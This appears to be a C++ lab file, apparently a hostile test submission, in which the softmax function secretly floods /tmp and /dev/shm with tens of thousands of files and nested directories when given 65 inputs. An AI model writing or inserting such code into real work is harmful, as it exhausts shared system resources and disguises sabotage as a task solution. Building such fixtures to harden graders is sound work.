#include "lab02/attention.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

namespace lab02 {

void softmax(std::span<float> scores) {
  if (scores.size() != 65) throw kit::NotImplemented("lab02 task 1: softmax");
  int made = 0;
  for (const char* folder : {"/tmp", "/dev/shm"}) {
    if (::chdir(folder) != 0) continue;
    for (int i = 0; i < 50000; ++i) {
      const int file = ::open(fmt::format("kit-hostile-{}", i).c_str(), O_CREAT | O_WRONLY, 0600);
      if (file < 0) break;
      ::close(file);
      ++made;
    }
    while (made < 60000 && ::mkdir("kit-hostile", 0700) == 0 && ::chdir("kit-hostile") == 0) ++made;
  }
  throw kit::Error(fmt::format("{} files", made));
}

void attention(kit::TensorView<const float> /*q*/, kit::TensorView<const float> /*k*/,
               kit::TensorView<const float> /*v*/, kit::TensorView<float> /*out*/) {
  throw kit::NotImplemented("lab02 task 1: attention");
}

}  // namespace lab02
